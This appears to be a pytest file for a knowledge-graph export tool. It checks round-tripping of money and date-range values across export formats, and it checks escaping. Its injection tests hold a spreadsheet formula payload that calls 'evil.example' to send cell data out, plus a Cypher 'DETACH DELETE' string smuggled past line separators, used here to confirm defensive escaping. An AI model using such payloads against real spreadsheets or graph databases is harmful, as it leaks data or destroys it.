"""Structured values (an amount of money with its currency, a range) in every export
format: written as JSON text (RDF: typed ``rdf:JSON``), read back equal, and a property
whose values have two types across a kind is text in every row of it."""
from __future__ import annotations

import csv
import dataclasses
import json

import networkx as nx
import pytest
import rdflib

from support.cli_support import kgkit
from support.graph_export_support import cypher_errors, cypher_graph, make_snapshot, neo4j_csv_graph
from kgkit.graph.export import export_graph

pytestmark = pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")

FORMATS = ["csv", "graphml", "json", "jsonld", "neo4j", "turtle"]
MONEY = {"amount": 5000000.0, "currency": "USD"}
RANGE = {"end": "2021-03-31", "start": "2021-03-01"}
RDF_JSON = rdflib.URIRef("http://www.w3.org/1999/02/22-rdf-syntax-ns#JSON")
KG = "https://kgkit.dev/ns#"


def money_snapshot():
    snap = make_snapshot()
    temporal = [
        {**snap.temporal[0], "qualifiers": {"price": {"text": "$5 million", "type": "money", "value": MONEY}}},
        {"id": "t_2", "head": "n_b", "relation": "PAYS", "tail": "n_a", "views": ["temporal"],
         "qualifiers": {"price": {"text": "12.5", "type": "number", "value": 12.5}}},
    ]
    events = [{**snap.events[0], "time": {"text": "March 2021", "value": RANGE}}]
    return dataclasses.replace(snap, temporal=temporal, events=events)


def test_structured_values_round_trip_through_every_format(tmp_path):
    snap = money_snapshot()
    for fmt in FORMATS:
        export_graph(snap, fmt, tmp_path)

    assert json.loads((tmp_path / "graph.json").read_text())["temporal"][0]["qualifiers"]["price"]["value"] == MONEY

    with (tmp_path / "temporal_qualifiers.csv").open(encoding="utf-8", newline="") as fh:
        values = {row["edge"]: row["value"] for row in csv.DictReader(fh)}
    assert json.loads(values["t_1"]) == MONEY and values["t_2"] == "12.5"
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as fh:
        assert json.loads(next(csv.DictReader(fh))["time_value"]) == RANGE

    g = nx.read_graphml(tmp_path / "graph.graphml")
    assert json.loads(g.edges["n_a", "n_b", "t_1"]["qualifier.price.value"]) == MONEY
    assert g.edges["n_b", "n_a", "t_2"]["qualifier.price.value"] == "12.5"  # one type per property: text
    assert json.loads(g.nodes["v_1"]["time.value"]) == RANGE

    script = (tmp_path / "neo4j" / "graph.cypher").read_text(encoding="utf-8")
    assert cypher_errors(script) == []
    for nodes, rels in (cypher_graph(script), neo4j_csv_graph(tmp_path / "neo4j")):
        assert json.loads(rels["t_1"][3]["qualifier_price_value"]) == MONEY
        assert rels["t_2"][3]["qualifier_price_value"] == "12.5"
        assert json.loads(nodes["v_1"][1]["time_value"]) == RANGE

    turtle = rdflib.Graph().parse(tmp_path / "graph.ttl", format="turtle")
    jsonld = rdflib.Graph().parse(tmp_path / "graph.jsonld", format="json-ld")
    assert set(turtle) == set(jsonld)
    base = "https://kgkit.dev/graph/t1/"
    [value] = turtle.objects(rdflib.URIRef(base + "t_1/qualifier/price"), rdflib.URIRef(KG + "value"))
    assert value.datatype == RDF_JSON and json.loads(str(value)) == MONEY
    [number] = turtle.objects(rdflib.URIRef(base + "t_2/qualifier/price"), rdflib.URIRef(KG + "value"))
    assert number.toPython() == 12.5  # a number stays a typed number in RDF


def test_a_finance_run_with_money_qualifiers_exports_in_every_format(cli_home):
    (cli_home / "deal.txt").write_text("Acme Corp acquired Beta Inc for $5 million on 1 March 2024.\n")
    result = kgkit("extract", "deal.txt", "--domain", "finance", "--view", "temporal", "--out", "out",
                   "--graph", "g.sqlite")
    assert result.exit_code == 0, result.output
    assert "currency" in (cli_home / "out" / "deal" / "views" / "temporal.json").read_text()
    for fmt in FORMATS:
        result = kgkit("graph", "export", "g.sqlite", "--format", fmt, "-o", f"ex_{fmt}")
        assert result.exit_code == 0, (fmt, result.output)
        assert "Traceback" not in result.output
    assert '""currency"": ""USD""' in (cli_home / "ex_csv" / "temporal_qualifiers.csv").read_text()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR",
            "'=already quoted", "''-twice", "plain", "'plain quote", "a=b"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_csv_cell_a_spreadsheet_would_run_is_guarded_and_the_guard_undoes(tmp_path, name):
    from kgkit.graph.export.escape import spreadsheet_text

    export_graph(make_snapshot(name=name), "csv", tmp_path)
    export_graph(make_snapshot(name=name), "neo4j", tmp_path)
    with (tmp_path / "nodes.csv").open(encoding="utf-8", newline="") as fh:
        cell = next(csv.DictReader(fh))["name"]
    runs = name.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert cell == ("'" + name if runs else name)
    assert spreadsheet_text(cell) == name
    nodes, _ = neo4j_csv_graph(tmp_path / "neo4j")  # the importer's files keep the value exact
    assert nodes["n_a"][1]["name"] == name


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\u0085"])
def test_a_unicode_line_separator_never_breaks_a_cypher_or_turtle_line(tmp_path, separator):
    name = f"Acme{separator}MATCH (n) DETACH DELETE n"
    export_graph(make_snapshot(name=name, relation=f"SUPPLIES{separator}X"), "neo4j", tmp_path)
    export_graph(make_snapshot(name=name), "turtle", tmp_path)
    script = (tmp_path / "neo4j" / "graph.cypher").read_text(encoding="utf-8")
    turtle = (tmp_path / "graph.ttl").read_text(encoding="utf-8")
    assert separator not in script and separator not in turtle
    assert script.splitlines() == script.split("\n")[:-1]  # every reader sees the same lines
    assert cypher_errors(script) == []
    nodes, _ = cypher_graph(script)
    assert nodes["n_a"][1]["name"] == name  # escaped as \uXXXX, read back exact
    g = rdflib.Graph().parse(tmp_path / "graph.ttl", format="turtle")
    assert str(g.value(rdflib.URIRef("https://kgkit.dev/graph/t1/n_a"), rdflib.URIRef(KG + "name"))) == name
